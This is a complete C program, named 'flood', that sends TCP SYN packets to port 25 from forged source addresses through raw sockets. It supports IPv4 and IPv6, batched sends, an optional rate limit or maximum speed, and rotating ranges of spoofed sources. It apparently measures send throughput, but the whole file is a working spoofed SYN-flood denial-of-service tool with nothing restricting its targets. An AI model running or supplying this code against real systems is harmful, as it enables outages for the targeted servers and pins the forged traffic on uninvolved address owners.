/* A sender of SYNs with sources that are made up, at a rate or as fast as it can: a raw socket, 64 packets a call.
 *
 *     flood COUNT RATE DESTINATION FIRST_SOURCE STEP SOURCES [WITHOUT]
 *
 * DESTINATION and FIRST_SOURCE are both of IPv4 or both of IPv6. With DESTINATION,SECOND each source goes to both, one SYN
 * after the other. RATE is packets/s, 0 for as fast as possible. Sources
 * count up from FIRST_SOURCE by STEP, in its last 32 bits, and after SOURCES of them begin anew; every WITHOUT-th is left
 * out (100: 99 of 100 are used). Prints how many were sent, the seconds that took, and the processor's seconds of them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct packet4 { struct iphdr ip; struct tcphdr tcp; };
struct packet6 { struct ip6_hdr ip; struct tcphdr tcp; };
union packet { struct packet4 four; struct packet6 six; };
union address { struct in_addr four; struct in6_addr six; };

static double now_of(clockid_t clock)
{
    struct timespec time;
    clock_gettime(clock, &time);
    return (double) time.tv_sec + (double) time.tv_nsec / 1e9;
}

static double now(void)
{
    return now_of(CLOCK_MONOTONIC);
}

static uint32_t sum(const void *data, size_t length, uint32_t sum)
{
    /* Copied, not read through another type: the compiler may move the writing of the fields behind that. */
    for (size_t i = 0; i < length / 2; i++) {
        uint16_t word;
        memcpy(&word, (const char *) data + 2 * i, sizeof word);
        sum += word;
    }
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~sum;
}

static void fill_tcp(struct tcphdr *tcp, uint32_t number, uint32_t pseudo_sum)
{
    tcp->source = htons((uint16_t) (1024 + number % 60000));
    tcp->dest = htons(25);
    tcp->seq = htonl(number);
    tcp->doff = 5;
    tcp->syn = 1;
    tcp->window = htons(64240);
    tcp->check = fold(sum(tcp, sizeof *tcp, pseudo_sum));
}

static void fill4(struct packet4 *packet, struct in_addr source, struct in_addr destination, uint32_t number)
{
    struct { struct in_addr source, destination; uint16_t protocol, length; } pseudo = {
        source, destination, htons(IPPROTO_TCP), htons(sizeof packet->tcp) };
    memset(packet, 0, sizeof *packet);
    packet->ip.version = 4;
    packet->ip.ihl = 5;
    packet->ip.tot_len = htons(sizeof *packet);
    packet->ip.id = htons((uint16_t) (number | 1));     /* with 0 the kernel chooses one, which takes it its time */
    packet->ip.ttl = 64;
    packet->ip.protocol = IPPROTO_TCP;
    packet->ip.saddr = source.s_addr;
    packet->ip.daddr = destination.s_addr;
    packet->ip.check = fold(sum(&packet->ip, sizeof packet->ip, 0));
    fill_tcp(&packet->tcp, number, sum(&pseudo, sizeof pseudo, 0));
}

static void fill6(struct packet6 *packet, struct in6_addr source, struct in6_addr destination, uint32_t number)
{
    struct { struct in6_addr source, destination; uint32_t length, protocol; } pseudo = {
        source, destination, htonl(sizeof packet->tcp), htonl(IPPROTO_TCP) };
    memset(packet, 0, sizeof *packet);
    packet->ip.ip6_flow = htonl(6u << 28);
    packet->ip.ip6_plen = htons(sizeof packet->tcp);
    packet->ip.ip6_nxt = IPPROTO_TCP;
    packet->ip.ip6_hlim = 64;
    packet->ip.ip6_src = source;
    packet->ip.ip6_dst = destination;
    fill_tcp(&packet->tcp, number, sum(&pseudo, sizeof pseudo, 0));
}

/* Whether the text is an address of this family. */
static int read_address(int family, const char *text, union address *address)
{
    return inet_pton(family, text, address) == 1;
}

int main(int argc, char **argv)
{
    union packet packets[BATCH];
    struct iovec vectors[BATCH];
    struct mmsghdr messages[BATCH];
    union address destinations[2], source;
    if (argc != 7 && argc != 8) {
        fprintf(stderr, "flood: wrong number of arguments\n");
        return 2;
    }
    int family = strchr(argv[3], ':') ? AF_INET6 : AF_INET, bytes = 64 << 20;
    char *second = strchr(argv[3], ',');
    uint32_t ways = second ? 2 : 1;
    if (second)
        *second++ = '\0';
    if (!read_address(family, argv[3], &destinations[0]) || !read_address(family, argv[4], &source)
        || (second && !read_address(family, second, &destinations[1]))) {
        fprintf(stderr, "flood: no pair of addresses: %s %s\n", argv[3], argv[4]);
        return 2;
    }
    int fd = socket(family, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("flood");
        return 1;
    }
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &bytes, sizeof bytes);
    struct sockaddr_in to4[2] = { { .sin_family = AF_INET, .sin_addr = destinations[0].four },
                                  { .sin_family = AF_INET, .sin_addr = destinations[1].four } };
    struct sockaddr_in6 to6[2] = { { .sin6_family = AF_INET6, .sin6_addr = destinations[0].six },
                                   { .sin6_family = AF_INET6, .sin6_addr = destinations[1].six } };
    size_t length = family == AF_INET ? sizeof packets[0].four : sizeof packets[0].six;
    /* Its last 32 bits, where it is counted up. */
    uint32_t *last = family == AF_INET ? &source.four.s_addr : &source.six.s6_addr32[3], first = ntohl(*last);
    unsigned long count = strtoul(argv[1], NULL, 10), sent = 0;
    double rate = strtod(argv[2], NULL), start = now(), own_start = now_of(CLOCK_PROCESS_CPUTIME_ID);
    uint32_t step = (uint32_t) strtoul(argv[5], NULL, 10), sources = (uint32_t) strtoul(argv[6], NULL, 10);
    uint32_t kept = argc == 8 ? (uint32_t) strtoul(argv[7], NULL, 10) - 1 : 0;
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < BATCH; i++) {
        vectors[i] = (struct iovec) { &packets[i], length };
        messages[i].msg_hdr = (struct msghdr) {
            .msg_namelen = family == AF_INET ? sizeof to4[0] : sizeof to6[0], .msg_iov = &vectors[i], .msg_iovlen = 1 };
    }
    while (sent < count) {
        int batch = count - sent < BATCH ? (int) (count - sent) : BATCH, done;
        if (rate > 0) {
            double behind = (double) sent / rate - (now() - start);
            if (behind > 0) {
                struct timespec pause = { 0, (long) (behind * 1e9) };
                nanosleep(&pause, NULL);
            }
            if (batch > 16)
                batch = 16;     /* small bursts: a rate is not a burst a millisecond */
        }
        for (int i = 0; i < batch; i++) {
            uint32_t number = (uint32_t) (sent + (unsigned long) i), at = number / ways % sources, way = number % ways;
            if (kept)
                at += at / kept;
            *last = htonl(first + at * step);
            messages[i].msg_hdr.msg_name = family == AF_INET ? (void *) &to4[way] : (void *) &to6[way];
            if (family == AF_INET)
                fill4(&packets[i].four, source.four, destinations[way].four, number);
            else
                fill6(&packets[i].six, source.six, destinations[way].six, number);
        }
        done = sendmmsg(fd, messages, (unsigned) batch, 0);
        if (done < 0) {
            if (errno == ENOBUFS || errno == EINTR)
                continue;
            perror("sendmmsg");
            return 1;
        }
        sent += (unsigned long) done;
    }
    printf("%lu %.6f %.6f\n", sent, now() - start, now_of(CLOCK_PROCESS_CPUTIME_ID) - own_start);
    return 0;
}
